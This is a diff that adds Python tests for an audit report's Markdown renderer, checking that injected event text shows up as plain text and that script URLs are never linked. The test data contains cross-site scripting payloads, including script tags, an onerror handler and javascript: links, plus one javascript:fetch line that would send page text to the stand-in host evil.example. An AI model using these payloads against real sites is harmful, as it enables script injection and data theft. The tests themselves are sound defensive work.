@@ -78,6 +78,87 @@ def test_the_audit_html_still_links_web_sources():
     assert re.search(r'<a href="https://example.org/a"[^>]*>https://example.org/a</a>', page)
 
 
+# 2b. audit Markdown: event text is shown, never obeyed --------------------------------------------------------
+
+# a link, raw HTML, a heading, a table row and a list item on lines of their own, code, emphasis, an entity, and a
+# trailing backslash (a hard line break)
+INJECTED = ("x](javascript:alert(1)) <script>alert(1)</script> <img src=x onerror=alert(2)>\n# forged heading\n"
+            "| forged | cell |\r\n- forged item\n> quoted `code` *bold* _em_ ~~struck~~ &lt;b&gt; [a](javascript:0) \\")
+
+
+def _rendered(markdown: str) -> str:
+    """The report as a renderer that trusts its input shows it: raw HTML passed through and every link kept
+    (markdown-it, installed with rich for followthemoney; its own check of link schemes is off here)."""
+    from markdown_it import MarkdownIt
+
+    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+    renderer.validateLink = lambda url: True
+    return renderer.render(markdown)
+
+
+def _elements(page: str) -> list[str]:
+    return re.findall(r"</?[a-z][a-z0-9]*", page)
+
+
+def _shown_text(page: str) -> str:
+    import html
+
+    return html.unescape(re.sub(r"<[^>]*>", "", page))
+
+
+def _planted_report(name_suffix: str = "") -> dict:
+    from streams.audit import build_report
+
+    documents = audit_case.planted_case()
+    for document in documents:
+        for side in ("source", "target"):
+            if document[side]["id"] == "broadcaster":
+                document[side] = {**document[side], "name": document[side]["name"] + name_suffix}
+    _, items = audit_case.processed(documents)
+    return build_report(items, pair=("minister", "broadcaster"))
+
+
+def test_the_audit_markdown_shows_event_text_as_text(monkeypatch):
+    from streams.audit import render_markdown
+
+    plain = render_markdown(_planted_report())
+    # ordinary text reads as it did
+    assert "| 0:4 | 5 | Minister x National Broadcaster | 0.900 | critical | e5 |" in plain
+    assert "- **Minister x National Broadcaster**: none (0.000), rules -" in plain
+    assert "`minister-control-regulator` (control, confirmed): event `e1` at offset 0:0, Example, " \
+           "<https://example.org/a>, extractor test/1, confidence 1.0" in plain
+    assert re.findall(r'href="([^"]*)"', _rendered(plain)) == ["https://example.org/a"] * 5  # web sources linked
+
+    monkeypatch.setitem(audit_case.PROVENANCE, "publisher", "Example" + INJECTED)
+    monkeypatch.setitem(audit_case.PROVENANCE, "quote", INJECTED)
+    monkeypatch.setitem(audit_case.PROVENANCE, "extractor", {"name": "test\n<b>5</b>", "version": "1"})
+    # a web address whose space and angle brackets would end an autolink and open HTML
+    monkeypatch.setitem(audit_case.PROVENANCE, "source_url", "https://example.org/a b><script>alert(4)</script>")
+    report = _planted_report(INJECTED)
+    # the event schema keeps backticks and line breaks out of ids; the report does not rely on it
+    report["alert_transitions"][0]["alert_id"] = "coi-1`2``3\n# forged"
+    report["alert_transitions"][0]["paths"][0]["edges"][0]["relation_id"] = "`r`"
+    forged = render_markdown(report)
+    # the same elements in the same order: no link, HTML, heading, row, cell, item, quote or break of the events' own
+    assert _elements(_rendered(forged)) == _elements(_rendered(plain))
+    shown = _shown_text(_rendered(forged))
+    assert "National Broadcaster" + " ".join(INJECTED.split()) in shown
+    assert "Example" + " ".join(INJECTED.split()) in shown
+    assert "test <b>5</b>/1" in shown and "coi-1`2``3 # forged" in shown and "`r`" in shown
+    assert re.findall(r'href="([^"]*)"', _rendered(forged)) == [
+        "https://example.org/a%20b%3E%3Cscript%3Ealert(4)%3C/script%3E"] * 5  # still the web address, one link each
+
+
+def test_the_audit_markdown_links_no_script_urls(monkeypatch):
+    from streams.audit import render_markdown
+
+    monkeypatch.setitem(audit_case.PROVENANCE, "source_url",
+                        "javascript:fetch('//evil.example/?'+document.body.innerText)")
+    page = _rendered(render_markdown(_planted_report()))
+    assert "javascript:fetch(" in _shown_text(page)  # still shown, as text
+    assert re.findall(r'href="([^"]*)"', page) == []
+
+
 # 3. DNS rebinding: without a token, data only for a loopback Host ------------------------------------------------
 
 def _request(host: str | None):
